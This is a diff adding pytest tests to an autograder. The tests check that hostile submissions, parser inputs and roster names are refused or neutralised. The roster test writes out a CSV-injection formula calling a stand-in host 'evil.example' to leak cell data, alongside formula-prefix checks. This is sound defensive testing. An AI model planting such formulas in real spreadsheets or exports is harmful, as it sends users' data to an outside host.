@@ -1,14 +1,22 @@
 """The adversarial class (autograder/adversarial.py) graded in one run with honest students:
 every submission gets its expected score with a stated reason, and nothing escapes the sandbox."""
+import csv
 import html
+import json
 import re
 import sqlite3
+import subprocess
+import sys
+import time
+import zipfile
 from pathlib import Path
 
 import nbformat
+import pytest
 
-from autograder import adversarial, grade, paths, sandbox
+from autograder import adversarial, grade, intake, paths, sandbox
 from autograder.grade_class import results_path
+from autograder.roster import Roster, Student
 
 
 def test_every_submission_is_graded_as_expected_with_a_reason(adversarial_class):
@@ -130,3 +138,93 @@ def test_no_student_receives_instructor_only_text(adversarial_class):
             found = [s for s in secret[kind] if s in got]
             assert not found, f"{student} received {kind} text: {found[:3]}"
     assert "/job/inputs" in _printed(course, "dumps-sandbox"), "the dump ran (it must see its own inputs)"
+
+
+# ---- intake's adversaries (fast: nothing is graded) ----------------------------------------------
+
+_FAKE = {"solution": json.dumps({"cells": [], "metadata": {"who": "solution"}}).encode(),
+         "blank": json.dumps({"cells": [], "metadata": {"who": "blank"}}).encode()}
+_INTAKE_CASES = adversarial.intake_cases(_FAKE)
+
+
+@pytest.mark.parametrize("case", sorted(_INTAKE_CASES))
+def test_intake_adversaries(case, tmp_path):
+    c = _INTAKE_CASES[case]
+    zipped = tmp_path / "submissions.zip"
+    with zipfile.ZipFile(zipped, "w") as z:
+        for name, data in c.files.items():
+            z.writestr(name, data)
+    roster = Roster([Student(**s) for s in c.roster]) if c.roster is not None else None
+    start = time.monotonic()
+    try:
+        taken = intake.collect(zipped, adversarial.INTAKE_ASSIGNMENT, roster=roster)
+    except intake.IntakeError as exc:
+        assert type(exc).__name__ in c.may_raise, f"{case} ({c.what}): {exc}"
+        return
+    finally:
+        assert time.monotonic() - start < c.seconds, f"{case} ({c.what}): intake took too long"
+    who = {s.origin: s for s in taken.submissions}
+    fates = {f.file: f for f in taken.fates}
+    assert set(fates) | {f.rstrip("/") for f in fates} >= set(c.files), f"{case}: a file has no fate"
+    for file, student in (c.graded or {}).items():
+        assert file in who, f"{case} ({c.what}): {file} not graded; {fates.get(file)}"
+        assert student is None or who[file].student == student, f"{case}: {file} graded as {who[file].student}"
+        assert fates[file].fate == intake.GRADED
+    if c.distinct:
+        owners = [who[f].student for f in c.graded]
+        assert len(set(owners)) == len(owners), f"{case} ({c.what}): students merged: {owners}"
+    for student, file in c.never:
+        assert not (file in who and who[file].student == student), f"{case} ({c.what}): {file} graded as {student}"
+        assert not any(f.student == student and f.file == file for f in taken.fates), f"{case}: {file} -> {student}"
+    for file, fate in (c.fates or {}).items():
+        assert fates[file].fate == fate, f"{case}: {file} is {fates[file].fate}, not {fate}"
+    for file, late in (c.late or {}).items():
+        assert who[file].late_marker == late, f"{case}: {file} late marker {who[file].late_marker}"
+    for file in c.untimed:
+        assert who[file].submitted_at is None, f"{case} ({c.what}): {file} took a time from the student's file"
+    if c.report_safe:
+        with open(taken.write(tmp_path / "report.csv"), newline="", encoding="utf-8") as f:
+            cells = [cell for row in csv.reader(f) for cell in row]
+        bad = [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
+        assert not bad, f"{case}: the intake report holds formulas: {bad}"
+
+
+_PARSE = """
+import resource, sys, time
+resource.setrlimit(resource.RLIMIT_AS, (1_500_000_000, 1_500_000_000))
+from autograder import repair
+raw = sys.stdin.buffer.read()
+start = time.monotonic()
+try:
+    repair.read_submission(raw, sys.argv[1])
+    print("parsed")
+except repair.Unmatchable as exc:
+    print("unmatchable", exc)
+"""
+
+
+@pytest.mark.parametrize("case", sorted(adversarial.parse_cases()))
+def test_hostile_files_are_refused_quickly_in_little_memory(case):
+    """What the grader's own process parses (a notebook, jupytext's text) can neither raise past
+    `read_submission` (one student's file would stop the class) nor take minutes or gigabytes:
+    in a process capped at 1.5 GB, it is read or refused as Unmatchable within seconds."""
+    name, raw = adversarial.parse_cases()[case]
+    try:
+        out = subprocess.run([sys.executable, "-c", _PARSE, name], input=raw, capture_output=True,
+                             timeout=8, cwd=paths.ROOT)
+    except subprocess.TimeoutExpired:
+        pytest.fail(f"{case}: reading the file took more than 8 s")
+    said = out.stdout.decode() + out.stderr.decode()[-1500:]
+    assert out.returncode == 0 and said.startswith(("unmatchable", "parsed")), f"{case}: {said}"
+    assert "MemoryError" not in said, f"{case}: {said[:300]}"
+
+
+def test_roster_file_holds_no_spreadsheet_formula(tmp_path):
+    """roster.csv is the instructor's to edit in a spreadsheet: names from the LMS (which students
+    may set) cannot start a formula there, and still read back as they were."""
+    names = ['=HYPERLINK("evil.example?"&A1,"x")', "+1+1", "@SUM(1)", "-2+3"]
+    Roster([Student(f"s{i}", first_name=n, last_name=n) for i, n in enumerate(names)]).save(tmp_path)
+    with open(tmp_path / "roster.csv", newline="", encoding="utf-8") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+    assert [s.first_name for s in sorted(Roster.load(tmp_path).students, key=lambda s: s.id)] == names
